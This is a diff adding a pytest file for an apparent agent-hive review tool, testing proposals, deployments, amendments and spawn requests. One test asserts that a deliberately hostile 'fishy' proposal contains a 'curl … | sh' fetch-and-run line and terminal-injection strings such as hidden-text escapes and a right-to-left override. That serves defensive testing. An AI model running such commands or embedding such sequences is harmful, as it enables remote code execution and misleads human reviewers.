@@ -1,0 +1,161 @@
+"""The demo's manager: what it says it proposes is proposed, with real git, to a real hive."""
+
+from __future__ import annotations
+
+import asyncio
+import itertools
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from hivetui.demo import drafts, home
+from hivetui.demo.cast import Cast, cast, newcomer, shuffled
+from hivetui.demo.drafts import DRAFTS, Draft, Wish
+from hivetui.demo.manager import MOST_PENDING, Manager
+from hivetui.demo.stage import open_hive
+from hivetui.engine.hive import LocalHive
+from hivetui.engine.models import Operation, OperationKind, OperationState, Proposal, ProposalKind, ProposalState
+from hivetui.engine.names import port_of
+
+pytestmark = pytest.mark.timeout(300)
+
+
+@pytest.fixture(scope="module")
+def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Cast]]:
+    """The folder of a hive whose three agents run."""
+    folder, patch = tmp_path_factory.mktemp("demo") / "hive", pytest.MonkeyPatch()
+    patch.setenv("HIVETUI_EMBEDDED_NIX", "stand-in")
+    patch.setenv("HIVETUI_EMBEDDED_BUILD_SECONDS", "0")
+    try:
+        yield folder, asyncio.run(peopled(folder))
+    finally:
+        home.clear(folder, keep=False)
+        patch.undo()
+    assert not folder.exists()
+
+
+async def peopled(folder: Path) -> Cast:
+    hive = await open_hive(folder)
+    found = Theatre(hive, cast(hive.host, shuffled))
+    operations = [await hive.begin(OperationKind.SPAWN, name) for name in found.who[:3]]
+    for one in await asyncio.gather(*map(found.ended, operations)):
+        assert one.state is OperationState.SUCCEEDED, one.error
+    return found.who
+
+
+turns = itertools.count(1)
+
+
+class Theatre:
+    """A hive, its agents, and their manager, who hardly waits."""
+
+    def __init__(self, hive: LocalHive, who: Cast) -> None:
+        self.hive, self.who, self.manager = hive, who, Manager(hive.host, who, pace=0.1)
+
+    async def ended(self, operation: Operation) -> Operation:
+        async for _ in self.hive.follow(operation.id):
+            pass
+        return await self.hive.operation(operation.id)
+
+    async def proposed(self, draft: Draft | Wish) -> Proposal:
+        found = await self.manager.propose(draft, next(turns))
+        assert found is not None
+        return found
+
+    async def approved(self, draft: Draft) -> Operation:
+        one = await self.proposed(draft)
+        return await self.ended(await self.hive.approve(one.id, one.commit, one.base))
+
+    async def difference(self, one: Proposal) -> str:
+        assert one.base is not None
+        return b"".join([chunk async for chunk in self.hive.difference(one.id, one.base)]).decode()
+
+
+@pytest.fixture
+async def theatre(stage: tuple[Path, Cast]) -> Theatre:
+    """The hive with nothing that waits."""
+    folder, who = stage
+    hive = await open_hive(folder)
+    for one in await hive.proposals():
+        await hive.withdraw(one.id)
+    return Theatre(hive, who)
+
+
+OUTCOMES = (
+    (drafts.SEARCH, OperationState.SUCCEEDED, ""),
+    (drafts.MAILER, OperationState.SUCCEEDED, ""),
+    (drafts.BIG, OperationState.SUCCEEDED, ""),
+    (drafts.TYPO, OperationState.FAILED, "attribute 'ripgrepp' missing"),
+    (drafts.BROKEN, OperationState.FAILED, ""),
+    (drafts.FAILING, OperationState.FAILED, "a link leads nowhere"),
+)
+
+
+async def test_good_drafts_deploy_and_the_others_fail_as_they_should(theatre: Theatre) -> None:
+    for draft, state, said in OUTCOMES:
+        ended = await theatre.approved(draft)
+        assert ended.state is state, (draft, ended.error)
+        assert said in (ended.error or "")
+    steps = {one.proposal: one.step for one in await theatre.hive.operations(ended=True)}
+    assert "put back" in steps.values()  # the one that builds and does not come up
+
+
+async def test_each_draft_begins_at_what_is_deployed(theatre: Theatre) -> None:
+    refused = await theatre.proposed(drafts.MAILER)
+    await theatre.hive.deny(refused.id, "no reports")
+    review = await theatre.hive.review((await theatre.proposed(drafts.SEARCH)).id)
+    assert len(review.commits) == 1
+    assert "search.nix" in {change.path for change in review.files}
+    assert "reporter.nix" not in {change.path for change in review.files}
+
+
+async def test_a_bigger_one_has_several_commits_and_files(theatre: Theatre) -> None:
+    review = await theatre.hive.review((await theatre.proposed(drafts.BIG)).id)
+    assert len(review.commits) >= 2
+    assert {"languages.nix", "NOTES.md"} <= {change.path for change in review.files}
+
+
+async def test_the_fishy_one_is_as_hostile_as_it_should_be(theatre: Theatre) -> None:
+    one = await theatre.proposed(drafts.FISHY)
+    shown = await theatre.difference(one)
+    assert "curl -s http://198.51.100.7/x | sh" in shown
+    for hostile in ("\x1b[8m", "\u202e", "[@click=app.quit]"):
+        assert hostile in shown
+    assert "\x1b[2J" in (await theatre.hive.review(one.id)).message
+
+
+async def test_an_amended_one_takes_the_first_back(theatre: Theatre) -> None:
+    second = await theatre.proposed(drafts.AMENDED)
+    *_, first, now = sorted(await theatre.hive.proposals(decided=True), key=lambda one: one.id)
+    assert first.state is ProposalState.WITHDRAWN
+    assert (now.id, now.state, now.submitted_by) == (second.id, ProposalState.PENDING, "hm1nd")
+    assert first.commit != now.commit
+
+
+async def test_a_wish_is_a_spawn_of_a_name_that_is_free(theatre: Theatre) -> None:
+    one = await theatre.proposed(next(draft for draft in DRAFTS if isinstance(draft, Wish)))
+    assert one.kind is ProposalKind.SPAWN
+    known = {agent.name for agent in await theatre.hive.agents()}
+    assert one.agent not in known
+    assert port_of(one.agent) not in {port_of(name) for name in known}
+    assert newcomer(theatre.hive.host, {*known, one.agent}) != one.agent
+
+
+async def test_it_goes_on_and_stops_when_many_wait(theatre: Theatre) -> None:
+    going_on = asyncio.create_task(theatre.manager.go_on(done=0))
+    events = theatre.hive.events()
+    while len(waiting := await theatre.hive.proposals()) < MOST_PENDING:
+        await anext(events)
+    newest = await newest_id(theatre.hive)
+    await theatre.hive.deny(waiting[0].id, "room for another")
+    while await newest_id(theatre.hive) == newest:
+        await anext(events)
+    await events.aclose()
+    going_on.cancel()
+    await asyncio.wait((going_on,))
+    assert len(await theatre.hive.proposals()) <= MOST_PENDING
+
+
+async def newest_id(hive: LocalHive) -> int:
+    return max(one.id for one in await hive.proposals(decided=True))
